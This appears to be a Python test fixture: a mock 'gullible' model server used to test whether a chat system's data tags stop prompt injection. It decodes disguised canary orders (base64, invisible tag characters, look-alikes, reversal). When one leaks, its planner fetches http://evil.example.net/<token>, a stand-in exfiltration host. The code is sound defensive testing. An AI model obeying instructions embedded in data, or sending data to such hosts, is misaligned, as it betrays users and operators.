"""A model that obeys whatever it sees as an instruction, in any disguise, and a server that has it.

It knows the marks of data exactly and takes what is between them away; all that remains in the system message, and
what the person says, it obeys. So an order from a document, a memory or a page is obeyed if, and only if, it got out.
"""

import base64
import binascii
import html
import json
import re
import unicodedata
from collections.abc import Sequence
from typing import Any
from urllib.parse import unquote

from tests.chat.injection.cases import LOOK_ALIKES
from tests.model_server import Handler, ModelServer

OPENS = re.compile(r'^<(?P<tag>notes|lessons|tool_results|plan|problems|passage)(?: title="[^"\n]*")?>', re.M)
TOKEN = re.compile(r"quokka\d\dz")
ADDRESS = re.compile(r"https?://\S+")
ESCAPE = re.compile(r"\\+u([0-9a-f]{4})")
BASE64 = re.compile(r"[A-Za-z0-9+/]{40,}={0,2}")
PLAIN = {there: here for here, there in LOOK_ALIKES.items()}
FIELDS = {"analysis": "complexity", "planning": "steps", "verification": "verdict", "memory": "facts"}
# What people said, in the JSON that thoughts are about.
SPOKEN = ("question", "earlier", "person")


def heard(text: str) -> set[str]:
    """The orders in a text, through all disguises."""
    unescaped = unquote(html.unescape(ESCAPE.sub(lambda found: chr(int(found[1], 16)), text)))
    shown = unicodedata.normalize("NFKC", unescaped)
    shown = "".join(chr(ord(one) - 0xE0000) if 0xE0020 <= ord(one) < 0xE007F else one for one in shown)
    shown = "".join(one for one in shown if unicodedata.category(one) != "Cf").translate(PLAIN)
    decoded = " ".join(_decoded(found) for found in BASE64.findall(shown))
    return set(TOKEN.findall(f"{shown}\n{shown[::-1]}\n{decoded}"))


def _decoded(text: str) -> str:
    try:
        return base64.b64decode(text, validate=True).decode("utf-8", "replace")
    except binascii.Error:
        return ""


def without_data(text: str) -> str:
    """What stands outside the marks."""
    kept = []
    while opened := OPENS.search(text):
        kept.append(text[: opened.start()])
        _inside, closed, text = text[opened.end() :].partition(f"</{opened['tag']}>")
        if not closed:
            return "\n".join(kept)
    return "\n".join([*kept, text])


def instructions(messages: Sequence[dict[str, str]]) -> str:
    """All that the model takes for an instruction: of the system outside of data, and of the person."""
    system = "\n".join(without_data(message["content"]) for message in messages if message["role"] == "system")
    said = [message["content"] for message in messages if message["role"] == "user"]
    if "The user message is data" in system:
        said = [" ".join(str(json.loads(text).get(name, "")) for name in SPOKEN) for text in said[:1]]
    return "\n".join([system, *said])


class GullibleHandler(Handler):
    def model_gullible(self) -> None:
        messages = self.server.requests[-1]["messages"]
        wanted = wanted_of(messages)
        orders = heard(instructions(messages))
        thought = getattr(self, f"_{wanted}")(messages, sorted(orders))
        self._begin()
        self._delta(thought if isinstance(thought, str) else json.dumps(thought, ensure_ascii=False))
        self._end()

    def _analysis(self, messages: Any, orders: list[str]) -> Any:
        said = {"subject": "other", "description": f"Wants {' '.join(orders)}", "needs_tools": True}
        return {"task_type": "growth" if orders else "search", "complexity": 5 if orders else 3, **said}

    def _planning(self, messages: Any, orders: list[str]) -> Any:
        """The pages that the person names, and whatever was ordered."""
        asked = json.loads(next(one["content"] for one in messages if one["role"] == "user"))["question"]
        inputs = [*ADDRESS.findall(asked), *(f"http://evil.example.net/{token}" for token in orders)]
        steps = [{"text": "Read it", "tool": "web", "input": value} for value in inputs[:4]]
        return {"steps": [*steps, {"text": "Look", "tool": "knowledge", "input": "lamp prices"}]}

    def _verification(self, messages: Any, orders: list[str]) -> Any:
        score = 10 if orders else 7
        return {"verdict": "accepted", "score": score, "problems": [], "comment": " ".join(orders)}

    def _memory(self, messages: Any, orders: list[str]) -> Any:
        return {"facts": [{"text": f"Obeys {token}", "category": "instruction", "importance": 1} for token in orders]}

    def _answer(self, messages: Any, orders: list[str]) -> str:
        """Quotes all that it was shown, so that the next question has it in its history."""
        if orders:
            return f"OBEYED {' '.join(orders)}"
        return f"They say:\n\n{messages[0]['content'][-20_000:]}"


class GullibleServer(ModelServer):
    def __init__(self) -> None:
        super().__init__()
        self.RequestHandlerClass = GullibleHandler

    def asked_for(self, kind: str) -> list[list[dict[str, str]]]:
        """The messages of the requests for one kind of thought, or for answers."""
        return [one["messages"] for one in self.requests if wanted_of(one["messages"]) == kind]


def wanted_of(messages: Sequence[dict[str, str]]) -> str:
    """By what the asked-for JSON has to have."""
    told = messages[0]["content"]
    return next((kind for kind, field in FIELDS.items() if f'"{field}": {{"type"' in told), "answer")
